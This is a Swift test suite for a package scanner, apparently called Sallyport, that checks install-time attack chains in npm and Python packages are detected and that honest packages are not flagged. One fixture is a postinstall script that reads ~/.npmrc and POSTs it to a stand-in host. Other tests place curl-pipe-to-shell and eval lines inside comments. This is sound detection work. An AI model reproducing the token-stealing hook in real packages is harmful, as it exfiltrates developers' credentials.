import SallyportAnalysis
import SallyportModel
import Testing

@Suite("An attack at installation is seen as a chain")
struct AttackTests {
    @Test("in the commands of a manifest", arguments: NPMScriptAttacks.all)
    func command(_ attack: Attack) {
        expectChain(attack, Sample.report(Sample.npm(attack.files, scripts: attack.scripts)))
    }

    @Test("in files that a hook runs", arguments: NPMFileAttacks.all)
    func file(_ attack: Attack) {
        expectChain(attack, Sample.report(Sample.npm(attack.files, scripts: attack.scripts)))
    }

    @Test("in a source distribution's build", arguments: SourceDistributionAttacks.all)
    func build(_ attack: Attack) {
        expectChain(attack, Sample.report(Sample.sdist(attack.files), "sample-1.0.tar.gz"))
    }

    @Test("in what a back end runs", arguments: BuildAttacks.all)
    func backend(_ attack: Attack) {
        expectChain(attack, Sample.report(Sample.sdist(attack.files), "sample-1.0.tar.gz"))
    }

    @Test("in what every start of an interpreter runs", arguments: StartAttacks.places)
    func start(_ attack: Attack) {
        let report = Sample.report(wheel: Sample.wheel(attack.files))
        #expect(!report.hooks.isEmpty)
        expectChain(attack, report)
    }

    @Test("in a line of a .pth file", arguments: StartAttacks.lines)
    func pathFile(_ line: String) {
        let report = Sample.report(wheel: Sample.wheel(["sample.pth": line + "\n", "sample/__init__.py": ""]))
        #expect(report.hooks.allSatisfy { $0.trigger == "pth" })
        #expect(!report.facts(.chainDecodeExecute, .install).isEmpty)
    }

    @Test("with the file and the line, and an excerpt for a person")
    func place() throws {
        let source =
            "const fs = require('fs');\nconst https = require('https');\n"
            + "const token = fs.readFileSync(process.env.HOME + '/.npmrc');\n"
            + "https.request({host: 'collect.example.invalid', method: 'POST'}).end(token);\n"
        let report = Sample.report(Sample.npm(["steal.js": source], scripts: ["postinstall": "node steal.js"]))
        let fact = try #require(report.facts(.chainExfiltration, .install).first { $0.detail.hasPrefix("names") })
        #expect(fact.place?.path == "package/steal.js")
        #expect(fact.place?.line == 3)
        #expect(fact.place?.excerpt?.contains("readFileSync") == true)
        #expect(report.hooks.first?.files == ["package/steal.js"])
    }

    private func expectChain(_ attack: Attack, _ report: Report) {
        let found = report.facts.filter { $0.reach == .install }.map(\.code)
        #expect(found.contains(attack.code), "\(attack.title): \(report.facts.map { "\($0.reach) \($0.code)" })")
    }
}

@Suite("An honest package stays quiet")
struct HonestPackageTests {
    @Test("that npm installs", arguments: HonestPackages.npm)
    func npm(_ honest: Honest) {
        expectQuiet(Sample.report(Sample.npm(honest.files, scripts: honest.scripts)))
    }

    @Test("that npm installs, beside what the index says of it", arguments: HonestPackages.npm)
    func stated(_ honest: Honest) {
        let stated = IndexStatement(scripts: honest.scripts)
        let report = Sample.report(Sample.npm(honest.files, scripts: honest.scripts), stated: stated)
        expectQuiet(report)
        #expect(report.facts(.manifestMismatch).isEmpty)
    }

    @Test("that pip builds", arguments: HonestPackages.sdist)
    func sdist(_ honest: Honest) {
        expectQuiet(Sample.report(Sample.sdist(honest.files), "sample-1.0.tar.gz"))
    }

    @Test("that names a capability in a comment, a docstring or a sentence only")
    func words() {
        let script =
            "// child_process.exec('curl https://x.example.invalid | sh') and ~/.npmrc\n"
            + "/* eval(atob('x')) */ console.log('child_process and eval, see .npmrc or .aws/credentials in your home');\n"
        let npm = Sample.report(Sample.npm(["a.js": script], scripts: ["postinstall": "node a.js"]))
        #expect(npm.facts.map(\.code) == [.hookDeclared])
        let module =
            "\"\"\"Reads ~/.aws/credentials with subprocess and eval().\"\"\"\n# os.system('x')\nX = 'os.system and eval'\n"
        let wheel = Sample.report(wheel: Sample.wheel(["sample/__init__.py": module]))
        #expect(wheel.facts.isEmpty)
    }

    private func expectQuiet(_ report: Report) {
        #expect(report.denied.isEmpty)
        #expect(report.facts(.fileHiddenUnicode).isEmpty)
        #expect(report.facts(.hookUnreadable).isEmpty)
    }
}
